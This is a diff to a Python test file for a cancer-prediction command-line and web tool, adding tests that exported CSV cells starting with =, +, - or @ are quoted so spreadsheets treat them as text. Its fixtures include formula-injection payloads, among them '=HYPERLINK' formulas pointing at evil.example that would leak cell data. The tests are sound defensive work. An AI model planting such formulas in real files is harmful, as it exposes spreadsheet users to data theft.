@@ -289,6 +289,32 @@ def test_batch_cli(site, tmp_path):
     assert pd.read_csv(out, keep_default_na=False)["warnings"].str.contains("extra_columns").all()
 
 
+def test_the_batch_cli_keeps_a_cell_a_spreadsheet_would_run_as_a_formula_as_text(site, tmp_path):
+    """A patient id `=HYPERLINK(...)` reached `oncofed predict --out` verbatim, a formula once the file is opened in a
+    spreadsheet: a cell starting with = + - @ (or a tab, a carriage return) gets a leading single quote (OWASP)."""
+    import csv
+
+    from typer.testing import CliRunner
+
+    from oncofed.cli import app
+
+    data = tmp_path / "data"
+    shutil.copytree(site["data"], data)
+    renamed = {"P000": '=HYPERLINK("http://evil.example/?"&A2,"open")', "P001": "+SUM(1)", "P002": "@cmd", "P003": "-x"}
+    for table in data.glob("*.csv"):
+        df = pd.read_csv(table, dtype=str)
+        df[site["schema"].id_column] = df[site["schema"].id_column].replace(renamed)
+        df.to_csv(table, index=False)
+    out = tmp_path / "p.csv"
+    r = CliRunner().invoke(app, ["predict", "--site-config", str(site["root"] / "site.json"), "--data", str(data),
+                                 "--out", str(out)])
+    assert r.exit_code == 0, r.output
+    with open(out, newline="") as fh:
+        ids = [row[0] for row in csv.reader(fh)]
+    assert set(ids) >= {"'" + v for v in renamed.values()} and "P004" in ids
+    assert not any(i[:1] in "=+-@" for i in ids)
+
+
 def test_the_batch_cli_writes_no_prediction_its_audit_log_did_not_record(site, tmp_path):
     # a review broke the audit log's last line: 20 rows reached the CSV, then a traceback, and no audit entry
     from typer.testing import CliRunner
@@ -322,6 +348,7 @@ def test_web_page_in_headless_chromium(site, live, tmp_path):
             df.loc[df["patient"] == "P000", "g5"] = "1000000"  # far outside the site's training values
         else:
             df = df[df["patient"] != "P001"]  # P001: expression only, 30 of 61 inputs
+        df["patient"] = df["patient"].replace({"P599": "=HYPERLINK(\"http://evil.example\",\"P599\")"})
         df.to_csv(upload / f.name, index=False)
     with sync_playwright() as p:
         browser = p.chromium.launch(executable_path=chromium, args=[
@@ -359,6 +386,8 @@ def test_web_page_in_headless_chromium(site, live, tmp_path):
     assert "expr 100%" in p000["coverage"] and "pushed the prediction" in p000["features"]
     assert "low_coverage" in p001_warnings and attention == "attention weights of the fusion layer"
     assert len(exported) == N and list(exported.columns[:4]) == ["patient", "predicted", "cancer type", "probability"]
+    # a cell a spreadsheet would run as a formula is exported as text (OWASP: a leading single quote)
+    assert "'=HYPERLINK(\"http://evil.example\",\"P599\")" in set(exported["patient"])
     assert "Held-out quality from the model package" in quality and "0.9" in quality  # the package's macro-F1
     assert meaning.startswith("What a probability means") and "calibrated" in meaning
     assert (site["root"] / "web-page.png").stat().st_size > 10_000
